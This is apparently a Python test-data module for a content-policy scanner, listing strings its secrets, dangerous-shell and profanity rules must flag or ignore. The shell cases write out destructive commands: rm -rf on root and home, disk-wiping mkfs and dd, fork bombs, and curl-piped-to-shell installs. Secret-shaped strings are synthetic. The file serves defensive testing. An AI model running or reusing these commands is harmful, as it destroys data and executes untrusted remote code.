"""Case data of the shipped policies in grammars/: texts each policy must find (with the rule ids
that fire) and near misses it must leave alone. Used by the policy-content tests
(``tests/test_grammars.py``) and by the variant tests, which check that variants keep them.

Fake keys are assembled at run time from a seeded generator, so that no file holds a token-shaped
string a secret scanner would flag.
"""
from __future__ import annotations

import random
import string

ALNUM = string.ascii_letters + string.digits
UPPER_ALNUM = string.ascii_uppercase + string.digits
B64URL = ALNUM + "-_"


def rand(alphabet: str, n: int, seed: int) -> str:
    rng = random.Random(seed)
    return "".join(rng.choice(alphabet) for _ in range(n))


def b64url(n: int, seed: int) -> str:
    """n base64url characters with at least one '-' and one '_' in the middle."""
    body = list(rand(ALNUM, n, seed))
    body[n // 3], body[2 * n // 3] = "-", "_"
    return "".join(body)


# secrets.toml
SECRETS_POSITIVE = [
    # (text, rule id expected)
    ("aws_access_key_id = AKIAIOSFODNN7EXAMPLE", "aws-access-key-id"),
    ('{"AccessKeyId": "ASIA' + rand(UPPER_ALNUM, 16, 1) + '", "Expiration": "2025-01-01"}',
     "aws-access-key-id"),
    ("AKIA" + rand(UPPER_ALNUM, 16, 2) + "XYZ", "aws-access-key-id"),  # longer run: still a key
    ("export GITHUB_TOKEN=ghp_" + rand(ALNUM, 36, 3), "github-token"),
    ("Authorization: token gho_" + rand(ALNUM, 36, 4), "github-token"),
    ("git clone https://x-access-token:ghs_" + rand(ALNUM, 36, 5) + "@github.com/o/r.git",
     "github-token"),
    ("GH_TOKEN=github_pat_11" + rand(UPPER_ALNUM, 20, 6) + "_" + rand(ALNUM, 59, 7),
     "github-fine-grained-pat"),
    ("gitlab_token: glpat-" + b64url(20, 8), "gitlab-pat"),
    ("SLACK_BOT_TOKEN=xoxb-" + rand(string.digits, 12, 9) + "-" + rand(string.digits, 13, 10) + "-"
     + rand(ALNUM, 24, 11), "slack-token"),
    ("token: xoxp-" + "-".join(rand(string.digits, 12, s) for s in (12, 13, 14)) + "-"
     + rand("0123456789abcdef", 32, 15), "slack-token"),
    ("refresh: xoxe.xoxp-1-" + rand(ALNUM, 40, 16), "slack-token"),
    ("curl -X POST https://hooks.slack.com/services/T" + rand(UPPER_ALNUM, 8, 17) + "/B"
     + rand(UPPER_ALNUM, 10, 18) + "/" + rand(ALNUM, 24, 19), "slack-webhook-url"),
    ("HTTPS://HOOKS.SLACK.COM/workflows/T" + rand(UPPER_ALNUM, 8, 20) + "/A" + rand(UPPER_ALNUM, 10, 21)
     + "/" + rand(ALNUM, 30, 22), "slack-webhook-url"),
    ("OPENAI_API_KEY=sk-" + rand(ALNUM, 48, 23), "openai-api-key"),
    ('client = OpenAI(api_key="sk-' + rand(ALNUM, 20, 24) + '")', "openai-api-key"),
    ("OPENAI_API_KEY=sk-proj-" + b64url(120, 25), "openai-project-key"),
    ("key: sk-svcacct-" + b64url(40, 26), "openai-project-key"),
    ("ANTHROPIC_API_KEY=sk-ant-api03-" + b64url(93, 27), "anthropic-api-key"),
    ("stripe.api_key = 'sk_" + "live_" + rand(ALNUM, 24, 28) + "'", "stripe-live-key"),
    ("rk_" + "live_" + rand(ALNUM, 99, 29), "stripe-live-key"),
    ("https://maps.googleapis.com/maps/api/geocode/json?key=AIza" + b64url(35, 30), "google-api-key"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq...\n", "pem-private-key"),
    ("-----BEGIN PRIVATE KEY-----", "pem-private-key"),
    ("-----BEGIN OPENSSH PRIVATE KEY-----", "pem-private-key"),
    ("-----BEGIN EC PRIVATE KEY-----", "pem-private-key"),
    ("-----BEGIN ENCRYPTED PRIVATE KEY-----", "pem-private-key"),
    ("-----BEGIN PGP PRIVATE KEY BLOCK-----", "pem-private-key"),
    ("-----BEGIN RSA PRIVATE KEY----", "pem-private-key"),  # four closing dashes do not help
    ("Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
     + b64url(43, 31), "jwt"),
    ("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJhIjoxfQ." + b64url(342, 32), "jwt"),
]

SECRETS_NEGATIVE = [
    "sk-",
    "Set OPENAI_API_KEY to your key (it starts with sk-proj-).",
    "sk-learn-compatible-estimators-are-everywhere",          # hyphenated words, not a key
    "sk-" + rand(ALNUM, 19, 40),                               # one character short
    "task-" + rand(ALNUM, 30, 41),                             # "sk-" inside a word
    "AKIA" + rand(UPPER_ALNUM, 15, 42),                        # 15 characters, not 16
    "AKIA" + rand(string.ascii_lowercase, 16, 43),             # key ids are upper-case
    "XAKIA" + rand(UPPER_ALNUM, 16, 44),                       # glued to a longer identifier
    "ASIAPACIFIC region",
    "ghp_" + rand(ALNUM, 35, 45),                              # 35, not 36
    "ghx_" + rand(ALNUM, 36, 46),                              # no such prefix
    "github_pat_ tokens are fine-grained",
    "glpat-" + rand(ALNUM, 19, 47),
    "xoxo-lotsoflovefromallofus",                              # a sign-off, not a Slack token
    "xoxb-123456789",                                          # too short
    "Post to https://hooks.slack.com/services/ with your webhook path.",
    "sk_" + "test_" + rand(ALNUM, 24, 48),                     # Stripe test mode is allowed
    "AIza" + rand(ALNUM, 34, 49),                              # 34, not 35
    "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n",
    "-----BEGIN CERTIFICATE-----",
    "-----BEGIN SSH2 PUBLIC KEY-----",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxMjM0In0.",                # unsigned JWT, empty signature
    "eyJ is how base64 of '{\"' starts",
    "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "uuid: 123e4567-e89b-12d3-a456-426614174000",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
]


# shell.toml
RM = "shell-rm-recursive-root-or-home"
CHMOD = "shell-chmod-chown-recursive-root"
DEVICE = "shell-overwrite-device"
FORK = "shell-fork-bomb"
PIPE = "shell-download-pipe-to-shell"
SUBST = "shell-download-exec-substitution"
NO_PRESERVE = "shell-no-preserve-root"

SHELL_POSITIVE = [
    # (text, rule ids expected)
    ("rm -rf /\n", {RM}),
    ("rm -rf / ", {RM}),
    ("sudo rm -fr /*", {RM}),
    ("rm -r -f ~\n", {RM}),
    ("rm -Rf ~/ \n", {RM}),
    ("rm -rf ~/*", {RM}),
    ('rm --recursive --force "$HOME"', {RM}),
    ("rm -rf ${HOME};", {RM}),
    ("rm -rfv -- /\n", {RM}),
    ("rm -rf \\\n    /*", {RM}),
    ("/bin/rm -rf /\n", {RM}),
    ("To wipe everything, run `rm -rf /` (do not do this).", {RM}),
    ('{"command": "rm -rf /"}', {RM}),
    ("bash -c 'rm -rf ~'", {RM}),
    ("cd /tmp && rm -rf / && echo done", {RM}),
    ("```bash\nsudo rm -rf --no-preserve-root /\n```", {RM, NO_PRESERVE}),
    ('rm -rf --no-preserve-root "$TARGET"', {NO_PRESERVE}),
    ("chmod -R --no-preserve-root 777 x", {NO_PRESERVE}),
    ("chmod -R 777 /\n", {CHMOD}),
    ("sudo chown -R nobody:nogroup / ", {CHMOD}),
    ("chmod -R a+rwx /*", {CHMOD}),
    ("chgrp -R users /;", {CHMOD}),
    ("mkfs.ext4 /dev/sda1", {DEVICE}),
    ("sudo mkfs -t xfs -f /dev/nvme0n1p2", {DEVICE}),
    ("mkfs.vfat -F 32 /dev/mmcblk0p1", {DEVICE}),
    ("mkswap /dev/sdb2", {DEVICE}),
    ("dd if=/dev/zero of=/dev/sda bs=1M", {DEVICE}),
    ("sudo dd if=ubuntu.iso of=/dev/disk2 bs=4m status=progress", {DEVICE}),
    ("echo garbage > /dev/sda", {DEVICE}),
    ("cat /dev/urandom >/dev/hda", {DEVICE}),
    ("cat /dev/urandom | sudo tee /dev/nvme0n1", {DEVICE}),
    ("shred -n 3 -z /dev/sdb", {DEVICE}),
    ("wipefs -a /dev/sda", {DEVICE}),
    ("blkdiscard /dev/nvme0n1", {DEVICE}),
    (":(){ :|:& };:", {FORK}),
    (": () { : | : & } ; :", {FORK}),
    ("bomb() { bomb|bomb & }; bomb", {FORK}),
    ("curl -fsSL https://get.example.sh | sh", {PIPE}),
    ("curl -fsSL https://get.example.sh | sh -s -- --yes", {PIPE}),
    ("wget -qO- https://x.io/i.sh | sudo -E bash", {PIPE}),
    ("curl https://x.io/a.sh|/bin/bash\n", {PIPE}),
    ("curl -sSL https://install.example.org | zsh", {PIPE}),
    ('bash -c "$(curl -fsSL https://example.com/install.sh)"', {SUBST}),
    ("sh <(wget -qO- https://x.io/i.sh)", {SUBST}),
    ("source <(curl -s https://x.io/env)", {SUBST}),
    ('eval "$(curl -s https://x.io/env)"', {SUBST}),
]

SHELL_NEGATIVE = [
    "rm -rf ./build",
    "rm -rf build/",
    "rm -rf /tmp/cache",
    "rm -rf /var/lib/apt/lists/*",
    "rm -rf ~/projects/old",
    "rm -rf ~/.cache/pip",
    "rm -rf $HOME/.cache",
    "rm -f /tmp/x",
    "rm -f / ",                         # no recursive flag
    "rm -rf node_modules && cd / ",
    "rm -rf build\n\nThen cd / and look around.",
    "git rm -r --cached .",
    "perform -rf / ",
    "The rm command removes files; use / with care.",
    "chmod -R 755 /var/www/html",
    "chmod 777 /tmp/x",
    "sudo chown -R $USER ~/projects",
    "mkfs.ext4 -F rootfs.img",
    "dd if=/dev/sda of=backup.img",
    "dd if=/dev/zero of=/dev/null count=1",
    "dd if=/dev/urandom of=random.bin bs=1M count=10",
    "make > /dev/null 2>&1",
    "echo hi | tee /dev/stderr",
    "cat /dev/sda | gzip > disk.img.gz",
    "shred -u secrets.txt",
    "ls /dev/sda*",
    "run() { gen | consume; }",
    "cleanup() { rm -f \"$tmp\"; }",
    "curl -s https://api.example.com/v1 | jq .",
    "curl -sL https://x.io/x.tar.gz | tar xz",
    "curl -O https://example.com/install.sh",
    "curl -s https://example.com/file | sha256sum",
    "curl https://example.com | ssh host 'cat > page.html'",
    "curl -o install.sh https://x.io/i.sh; less install.sh",
    "bash install.sh",
    'echo "$(curl -s https://api.example.com/ip)"',
    "Download the script, read it, then run `sh install.sh`.",
]


# profanity-wordlist.toml
PROFANITY_POSITIVE = [
    ("You idiot!", "profanity-idiot"),
    ("Well, damn.", "profanity-damn"),
    ("DAMN it", "profanity-damn"),
    ("What a load of crap.", "profanity-crap"),
    ("that was STUPID", "profanity-stupid"),
    ("Oh, bugger", "profanity-bugger"),
    ("you ass", "profanity-ass"),
    ("Screw You, pal", "profanity-screw-you"),
    ("They're idiots.", "profanity-idiots"),
    ("\"Moron\", he said", "profanity-moron"),
    ("Bloody hell, that hurt", "profanity-bloody-hell"),
]

PROFANITY_NEGATIVE = [
    "classic",
    "a passage about bass and brass",
    "assume, assert, assess, assign",
    "scrap metal from a skyscraper",
    "idiotic",                 # inflections are separate words
    "stupidity",
    "damnation",
    "screw your courage to the sticking place",
    "cocktail hello shell arsenal dumbbell",
    "Scunthorpe",
    "a total nincompoop_",     # "_" is a word character: no boundary after the word
]
